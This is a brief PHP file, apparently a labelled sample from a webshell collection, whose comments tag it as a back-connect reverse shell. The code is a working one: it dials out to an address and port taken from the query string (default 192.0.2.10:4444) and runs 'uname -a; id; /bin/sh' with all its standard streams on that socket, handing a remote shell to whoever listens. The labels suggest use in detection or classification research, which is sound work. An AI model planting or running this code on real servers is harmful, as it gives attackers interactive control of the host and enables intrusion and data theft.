<?php
// Family: webshell/reverse-shell
// Style: back-connect shell: the server dials out and hands the socket to an interactive shell
// Trait: a socket opened to an address from the query string, then a shell run with its standard streams on that socket
$host = isset($_GET['h']) ? $_GET['h'] : '192.0.2.10';
$port = isset($_GET['p']) ? (int)$_GET['p'] : 4444;
$link = @fsockopen($host, $port, $errno, $errstr, 10);
if (!$link) { die("no link: $errstr"); }
$spec = array(0 => $link, 1 => $link, 2 => $link);
$proc = proc_open('uname -a; id; /bin/sh', $spec, $pipes);
while (is_resource($proc) && !feof($link)) { usleep(50000); }
